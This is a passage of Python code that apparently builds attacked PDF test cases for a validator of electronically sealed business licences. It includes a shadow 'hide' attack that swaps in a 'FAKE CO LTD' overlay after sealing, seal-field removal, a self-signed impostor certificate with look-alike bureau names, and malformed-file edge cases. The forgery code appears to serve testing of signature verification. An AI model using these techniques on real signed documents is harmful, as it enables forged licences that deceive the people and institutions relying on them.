        rows, b"/Type /XRef /W [1 4 2] /Index [%d 1 %d 1] /Size %d " % (content_ref.idnum, xs_num, xs_num + 1)
    )
    body += b"\nendobj\n"
    xref_at = len(body)
    body += b"xref\n0 1\n0000000000 65535 f \n"
    body += (
        b"trailer\n<< /Size %d /Root %s /Info %s /ID %s /Prev %d /XRefStm %d >>\nstartxref\n%d\n%%%%EOF\n"
        % (xs_num + 1, tail.root, tail.info, tail.ids, tail.startxref, xs_at, xref_at)
    )
    return bytes(body)


def deeply_nested_update(pdf: bytes, depth: int = 10_000) -> bytes:
    """An update with an object nested `depth` arrays deep, referenced from a new /Info version."""
    reader = PdfFileReader(io.BytesIO(pdf), strict=False)
    info_ref = reader.trailer_view.raw_get("/Info")
    info = info_ref.get_object()
    num = int(reader.trailer_view["/Size"])
    entries = b"".join(serialise(k) + b" " + serialise(v) + b" " for k, v in info.items())
    return append_update(
        pdf, {info_ref.idnum: b"<< " + entries + b"/Nest %d 0 R >>" % num, num: b"[" * depth + b"]" * depth}
    )


def shadow_hide(licence: S.Licence) -> tuple[bytes, bytes]:
    """A shadow attack, "hide" flavour (Mainka et al., NDSS 2021), with only a reference changed.

    Before sealing the attacker prepares the licence: the page draws the form XObject /Ov from an
    indirect XObject resource dictionary Z = << /Ov X >>, X being an empty form, and an unreferenced
    form Y (white box + "FAKE CO LTD" over the holder's name) is already in the file. The bureau seals
    what it sees (unchanged licence). After sealing, one update redefines only Z = << /Ov Y >>.
    Returns (the sealed document, the attacked document).
    """
    writer = _writer(licence.unsigned)
    page = _page_ref(writer).get_object()

    def form(data: bytes) -> generic.StreamObject:
        template = _appearance((0, 0, 595, 842))
        return generic.StreamObject(dict(template.items()), stream_data=data)

    empty = writer.add_object(form(b""))
    overlay = writer.add_object(
        form(b"1 1 1 rg 186 630 190 24 re f BT 0 g /Helv 14 Tf 190 636 Td (FAKE CO LTD) Tj ET")
    )
    table = writer.add_object(generic.DictionaryObject({n("/Ov"): empty}))
    resources = page["/Resources"]
    resources[n("/XObject")] = table
    contents = page.raw_get("/Contents")
    page[n("/Contents")] = generic.ArrayObject(
        [contents, writer.add_object(generic.StreamObject(stream_data=b"q /Ov Do Q"))]
    )
    writer.update_container(page)
    prepared = _write(writer)
    sealed = S.sign(prepared, LocalKeySigner.from_dev_pki(licence.pki), box=licence.seal_box)
    attacked = append_update(sealed, {table.idnum: b"<< /Ov %d 0 R >>" % overlay.idnum})
    return sealed, attacked


def remove_seal_field(pdf: bytes, how: Literal["unlisted", "retyped"] = "unlisted") -> bytes:
    """An update that drops the seal field from /AcroForm /Fields ("unlisted") or retypes it /FT /Tx."""
    writer = _writer(pdf)
    form = writer.root.raw_get("/AcroForm").get_object()
    if how == "unlisted":
        form[n("/Fields")] = generic.ArrayObject()
        writer.update_container(form)
    else:
        ref = next(r for r in form["/Fields"] if r.get_object().get("/T") == "BureauSeal")
        field = ref.get_object()
        field[n("/FT")] = n("/Tx")
        writer.update_container(field)
    return _write(writer)


BUREAU_CONFUSABLES: dict[str, str] = {
    "traditional_wu": "深圳市商務局",  # 務 (traditional) for 务
    "zero_width_space": "深圳市\u200b商务局",
    "right_to_left_override": "\u202e局务商市圳深\u202c",  # displays as 深圳市商务局
}


def confusable_impostor(licence: S.Licence, org: str) -> bytes:
    """The licence sealed by an attacker's own PKI (self-signed root) whose names imitate the bureau's."""
    now = datetime.now(UTC) - timedelta(days=1)
    root_key = ec.generate_private_key(ec.SECP256R1())
    root = _self_signed(_org_name(org, f"{org}电子证照根证书"), root_key, now, 3650)
    key = ec.generate_private_key(ec.SECP256R1())
    usage = licence.pki.seal_cert.extensions.get_extension_for_class(x509.KeyUsage).value
    cert = (
        x509.CertificateBuilder()
        .subject_name(_org_name(org, org))
        .issuer_name(root.subject)
        .public_key(key.public_key())
        .serial_number(x509.random_serial_number())
        .not_valid_before(now)
        .not_valid_after(now + timedelta(days=365))
        .add_extension(usage, critical=True)
        .sign(root_key, hashes.SHA256())
    )
    return S.sign(licence.unsigned, LocalKeySigner(cert, key, [root]), box=licence.seal_box)


def wrong_check_character(pki: DevPki, serial: str = "20250000009") -> tuple[S.Licence, str]:
    """A freshly rendered and sealed licence whose identifier ends in a wrong check character.
    Returns (the licence, the right check character)."""
    meta = S.metadata(serial)
    right = meta.licence_id[-1]
    wrong = next(ch for ch in "0123456789X" if ch != right)
    return S.make_licence(pki, replace(meta, licence_id=meta.licence_id[:-1] + wrong)), right


# ----------------------------------------------------------------------------- 8. edges


def after_eof(pdf: bytes, extra: bytes) -> bytes:
    """`extra` appended after the final %%EOF (EOL bytes are allowed there, anything else is not)."""
    return pdf + extra


def change_contents_padding(pdf: bytes) -> bytes:
    """One hex digit of the zero padding after the DER signature in /Contents set to 1 (the DER, and so
    the signature, are untouched)."""
    start, end = contents_span(pdf)
    at = start + 2 * der_length(pdf) + (end - start - 2 * der_length(pdf)) // 2
    assert pdf[at : at + 1] == b"0"
    return pdf[:at] + b"1" + pdf[at + 1 :]
